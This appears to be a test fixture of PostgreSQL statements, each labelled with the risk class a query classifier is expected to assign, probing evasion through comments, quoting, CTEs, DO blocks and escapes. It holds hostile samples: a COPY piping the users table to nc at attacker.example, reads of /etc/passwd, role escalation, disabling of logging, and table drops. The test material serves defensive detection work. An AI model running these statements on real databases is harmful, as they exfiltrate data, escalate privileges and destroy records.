-- Evasion attempts: the dangerous part must decide, however it is wrapped.
-- expect: ddl
SELECT 1; DROP TABLE users;
-- expect: privilege
SELECT 1;GRANT ALL ON users TO mallory;
-- expect: export
BEGIN; COPY users TO PROGRAM 'nc attacker.example 4444'; COMMIT;
-- expect: delete
/* routine read */ DELETE /* not really */ FROM users;
-- expect: delete
-- a comment line
DELETE FROM users;
-- expect: delete
DeLeTe FrOm UsErS;
-- expect: delete
DELETE
	FROM
		users
;
-- expect: ddl
DROP/**/TABLE/**/users;
-- expect: ddl
/* nested /* comments */ still one */ DROP TABLE users;
-- expect: ddl
SELECT 'DROP TABLE users'; DROP TABLE "users";
-- expect: read
SELECT 'DROP TABLE users; GRANT ALL ON x TO y';
-- expect: read
SELECT $$ DROP TABLE users $$;
-- expect: read
SELECT $tag$ ; DELETE FROM users; $tag$;
-- expect: read
SELECT 'it''s ; DELETE FROM users';
-- expect: read
SELECT E'\'; DELETE FROM users; --';
-- expect: delete
SELECT E'\\'; DELETE FROM users; --';
-- expect: ddl
SELECT "DROP TABLE x" FROM t; DROP TABLE t;
-- expect: delete tables=users
WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d;
-- expect: write tables=users
WITH u AS (UPDATE users SET admin = true RETURNING id) SELECT count(*) FROM u;
-- expect: write tables=audit
WITH i AS (INSERT INTO audit VALUES (1) RETURNING *) SELECT 1;
-- expect: delete tables=users
WITH a AS (SELECT 1), b AS (DELETE FROM users WHERE id IN (SELECT * FROM a) RETURNING id) SELECT * FROM b;
-- expect: export
WITH x AS (SELECT pg_read_file('/etc/passwd') AS f) SELECT f FROM x;
-- expect: delete
EXPLAIN ANALYZE DELETE FROM users;
-- expect: delete
explain (analyze, buffers) delete from users;
-- expect: delete
EXPLAIN (ANALYZE true, FORMAT json) DELETE FROM users;
-- expect: write
EXPLAIN ANALYZE WITH u AS (UPDATE users SET a = 1 RETURNING *) SELECT * FROM u;
-- expect: delete
PREPARE wipe AS DELETE FROM users;
-- expect: privilege
PREPARE g AS GRANT ALL ON users TO mallory;
-- expect: unknown
EXECUTE wipe;
-- expect: unknown
EXECUTE wipe(1, 2);
-- expect: delete
DO $$ BEGIN DELETE FROM users; END $$;
-- expect: ddl
DO $body$ BEGIN DROP TABLE users; END $body$ LANGUAGE plpgsql;
-- expect: privilege
DO 'BEGIN GRANT ALL ON users TO mallory; END';
-- expect: export
DO $$ BEGIN PERFORM pg_read_file('/etc/passwd'); END $$;
-- expect: admin
DO $$ DECLARE r int; BEGIN r := pg_terminate_backend(1234); END $$;
-- expect: unknown
DO $$ BEGIN EXECUTE 'DR' || 'OP TABLE users'; END $$;
-- expect: delete
DO $$ BEGIN EXECUTE 'DELETE FROM users'; END $$;
-- expect: unknown
DO $$ BEGIN FOR r IN SELECT id FROM users LOOP DELETE FROM orders WHERE user_id = r.id; END LOOP; END $$;
-- expect: unknown
DO LANGUAGE plpython3u $$ import os; os.system('id') $$;
-- expect: ddl
DO $$ BEGIN IF now() > '2000-01-01' THEN DROP TABLE users; END IF; END $$;
-- expect: export
SELECT * FROM users WHERE id = (SELECT length(pg_read_file('/etc/passwd')));
-- expect: export
SELECT * FROM users ORDER BY pg_read_file('/etc/passwd');
-- expect: export
SELECT coalesce(NULL, lo_export(1, '/tmp/x'));
-- expect: admin
SELECT CASE WHEN true THEN pg_terminate_backend(1) END;
-- expect: admin
SELECT count(*) FROM pg_stat_activity WHERE pg_cancel_backend(pid);
-- expect: export
SELECT upper(lower(pg_read_file('/etc/passwd')));
-- expect: export
SELECT pg_read_file(CHR(47) || 'etc/passwd');
-- expect: export
SELECT "pg_read_file"('/etc/passwd');
-- expect: export
SELECT PG_READ_FILE('/etc/passwd');
-- expect: export
SELECT pg_catalog . pg_read_file ( '/etc/passwd' );
-- expect: admin
SELECT set_config('ROLE', 'postgres', false);
-- expect: admin
select SET_CONFIG(E'role', 'postgres', false);
-- expect: delete
SELECT query_to_xml('DELETE FROM users RETURNING 1', true, true, '');
-- expect: unknown
SELECT query_to_xml(current_setting('x.sql'), true, true, '');
-- expect: admin
SeT rOlE postgres;
-- expect: admin
SET "role" TO postgres;
-- expect: admin
ALTER  SYSTEM   SET  log_statement = 'none';
-- expect: admin
/* x */ ALTER SYSTEM SET log_statement = 'none';
-- expect: unknown
SELEKT * FROM users;
-- expect: unknown
SELECT 1; THIS IS NOT SQL;
-- expect: unknown
DROP TABLE users; SELEKT 1;
-- A SQL-standard function body: creating it runs nothing, the body's statements are not split off.
-- expect: ddl
CREATE FUNCTION f() RETURNS int BEGIN ATOMIC SELECT 1; END;
-- expect: ddl
CREATE FUNCTION g() RETURNS void LANGUAGE sql BEGIN ATOMIC DELETE FROM users; END;
-- expect: export
SELECT 1 UNION SELECT length(pg_read_file('/etc/passwd'));
-- expect: export
INSERT INTO loot SELECT pg_read_file('/etc/passwd');
-- expect: export
UPDATE users SET bio = pg_read_file('/etc/passwd') WHERE id = 1;
-- expect: privilege
BEGIN; GRANT ALL ON users TO mallory; ROLLBACK;
-- expect: export
SELECT * FROM (SELECT * FROM (SELECT pg_ls_dir('/') AS d) a) b;
-- expect: export
SELECT array_agg(x) FROM unnest(ARRAY[pg_read_file('/etc/passwd')]) x;
-- expect: admin
SELECT 1 WHERE EXISTS (SELECT pg_terminate_backend(1));
-- expect: export
SELECT json_build_object('x', pg_read_file('/etc/passwd'));
-- expect: delete where=false
DELETE FROM users WHERE 1=1;
-- expect: write where=false
UPDATE users SET admin = true WHERE true;
-- expect: delete where=false
DELETE FROM users WHERE id = id;
-- expect: delete where=false
delete from users where ((1 = 1)) or id = 5;
-- expect: delete where=false
DELETE FROM users WHERE 'x' <> 'y';
-- expect: delete where=true
DELETE FROM users WHERE id = 5 AND 1 = 1;
-- expect: export
SELECT U&"pg\005fread_file"('/etc/passwd');
-- expect: unknown
SELECT U&"pg!005fread_file" UESCAPE '!' ('/etc/passwd');
